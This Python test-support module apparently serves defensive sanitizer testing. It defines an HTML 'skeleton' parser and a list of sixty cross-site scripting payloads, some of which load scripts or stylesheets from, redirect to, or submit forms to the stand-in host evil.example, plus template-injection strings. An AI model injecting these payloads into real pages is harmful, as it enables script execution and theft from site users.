"""Sixty ways to have words run as a script, load from elsewhere or take over a page: what hostile people type.

Each one runs `alert`, or asks a host that is not ours, when it is put into a page unescaped in some context: between
tags, inside an attribute with either quote or none, in a title, a textarea, a comment, a style, a script or a JSON
island, after a parser that reads it twice, or as a template of one language or another.
"""

import re
from html.parser import HTMLParser


class Skeleton(HTMLParser):
    """The elements that a browser would build from a page, without the words: kinds, attributes, addresses."""

    def __init__(self, text: str):
        super().__init__()
        self.elements, self.addresses = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.add((tag, frozenset(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "action", "formaction"}]

    @property
    def kinds(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    @property
    def attributes(self) -> set[tuple[str, str]]:
        return {(tag, name) for tag, names in self.elements for name in names}

    @property
    def scripts(self) -> set[str]:
        """Addresses that run something instead of leading somewhere."""
        return {found for found in self.addresses if re.match(r"\W*(javascript|data|vbscript):", found, re.IGNORECASE)}


PAYLOADS = [
    # between tags
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x);position:fixed;inset:0'>x</div>",
    "<form action=//evil.example/><input type=submit formaction=javascript:alert(1)></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<img name=body id=main><form id=forms name=cookie>",
    "<template><img src=x onerror=alert(1)></template>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    # out of an attribute
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "x onpointerenter=alert(1) ",
    "` onerror=alert(1) `",
    # out of an element whose words are not read as tags, or read twice
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "]]><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # links, scripts and templates
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "javascript:alert(1)//https://example.org/",
    "';alert(1)//\";alert(1)//\\",
    "{{ 7|add:7 }}{% debug %}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}%(password)s{user.password}<%= alert(1) %>",
]
